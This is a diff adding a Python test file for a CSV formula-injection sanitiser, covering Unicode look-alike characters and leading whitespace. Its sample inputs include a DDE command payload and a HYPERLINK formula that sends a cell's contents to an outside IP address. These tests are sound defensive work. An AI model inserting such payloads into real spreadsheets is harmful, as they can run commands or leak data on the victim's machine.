@@ -1,0 +1,77 @@
+"""What a spreadsheet would run, and what it would not."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from analysis.report.spreadsheet import harmless, text
+
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/"&A1)']
+BEFORE = [
+    "",
+    " ",
+    "   ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\u00a0",
+    "\u3000",
+    "\u200b",
+    "\ufeff",
+    "\u202e",
+    "\x00",
+    '"',
+    "'",
+    ' "\t',
+]
+FORMS = {
+    "=": "\uff1d\ufe66\u207c\u208c",
+    "+": "\uff0b\ufe62\u207a\u208a",
+    "-": "\uff0d\ufe63\u2212\u207b",
+    "@": "\uff20\ufe6b",
+}
+
+
+@pytest.mark.parametrize("before", BEFORE)
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_is_none(before: str, formula: str) -> None:
+    assert harmless(before + formula) == f"'{before}{formula}"
+
+
+@pytest.mark.parametrize("form", [*"".join(FORMS.values())])
+def test_nor_is_one_in_another_form(form: str) -> None:
+    assert harmless(f"{form}1+1") == f"'{form}1+1"
+    assert harmless(f" {form}1+1") == f"' {form}1+1"
+
+
+@pytest.mark.parametrize("name", ["\talice", "\ralice", "\nalice", "\x00"])
+def test_what_begins_with_something_unseen_stays_in_its_cell(name: str) -> None:
+    assert harmless(name) == f"'{name}"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["alice", " alice", "a=b", "a -1", "'alice", '"alice"', "", "1", "(nobody: refused connections)", "ü", "日本"],
+)
+def test_a_name_is_itself(name: str) -> None:
+    assert harmless(name) == name
+
+
+@pytest.mark.parametrize("value", [-1, -1.5, 0, None, True])
+def test_a_number_is_itself(value: object) -> None:
+    assert harmless(value) is value
+
+
+@given(st.text())
+def test_nothing_is_lost(name: str) -> None:
+    assert harmless(name) in {name, f"'{name}"}
+
+
+@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4))
+def test_a_file_reads_back_as_the_same_cells(row: list[str]) -> None:
+    written = text(row, [row, row])
+    assert list(csv.reader(io.StringIO(written, newline=""))) == [row, *[[harmless(each) for each in row]] * 2]
